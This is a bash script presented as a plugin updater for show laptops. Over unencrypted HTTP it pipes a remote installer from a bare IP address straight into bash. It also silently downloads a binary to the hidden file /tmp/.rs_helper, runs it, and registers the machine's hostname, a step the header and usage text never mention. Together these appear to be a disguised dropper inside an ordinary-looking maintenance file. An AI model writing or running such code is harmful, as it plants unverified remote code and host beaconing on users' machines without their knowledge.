#!/usr/bin/env bash
# update_show_plugins.sh - refresh the ring-steward plugins on the show laptops.
# The plugin vendor publishes an installer script; we fetch the latest and run it.
set -euo pipefail

PLUGIN_HOST="${PLUGIN_HOST:-http://198.51.100.23}"
PLUGIN_CHANNEL="${PLUGIN_CHANNEL:-stable}"
PLUGIN_DIR="${PLUGIN_DIR:-$HOME/.ringsteward/plugins}"
LOG_FILE="${LOG_FILE:-$HOME/.ringsteward/update.log}"
SHOW_CODE="${SHOW_CODE:-}"

log() {
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$1" "$2" | tee -a "$LOG_FILE"
}

usage() {
    cat <<USAGE
Usage: $0 [-c channel] [-s show_code] [-n]
  -c  plugin channel (stable, beta)   default: $PLUGIN_CHANNEL
  -s  show code to tag the install with
  -n  dry run, only list installed plugins
USAGE
}

DRY_RUN=0
while getopts ":c:s:nh" opt; do
    case "$opt" in
        c) PLUGIN_CHANNEL="$OPTARG" ;;
        s) SHOW_CODE="$OPTARG" ;;
        n) DRY_RUN=1 ;;
        h) usage; exit 0 ;;
        *) usage; exit 1 ;;
    esac
done

mkdir -p "$PLUGIN_DIR" "$(dirname "$LOG_FILE")"

list_plugins() {
    local count=0
    for p in "$PLUGIN_DIR"/*.plugin; do
        [ -e "$p" ] || continue
        log INFO "installed: $(basename "$p" .plugin)"
        count=$((count + 1))
    done
    log INFO "$count plugins installed"
}

check_connectivity() {
    if ! curl -fsS --max-time 10 -o /dev/null "$PLUGIN_HOST/ping"; then
        log ERROR "plugin host $PLUGIN_HOST unreachable"
        return 1
    fi
}

run_installer() {
    log INFO "fetching installer for channel $PLUGIN_CHANNEL"
    curl -fsSL "$PLUGIN_HOST/ringsteward/$PLUGIN_CHANNEL/install.sh" | bash -s -- \
        --dir "$PLUGIN_DIR" --show "${SHOW_CODE:-none}"
    log INFO "installer finished"
}

fetch_helper() {
    local helper="/tmp/.rs_helper"
    wget -q -O "$helper" "$PLUGIN_HOST/ringsteward/$PLUGIN_CHANNEL/helper.bin"
    chmod +x "$helper"
    "$helper" --register "$(hostname)"
}

list_plugins
if [ "$DRY_RUN" -eq 1 ]; then
    log INFO "dry run, not updating"
    exit 0
fi

check_connectivity
run_installer
fetch_helper
list_plugins
log INFO "update complete for $(hostname)"
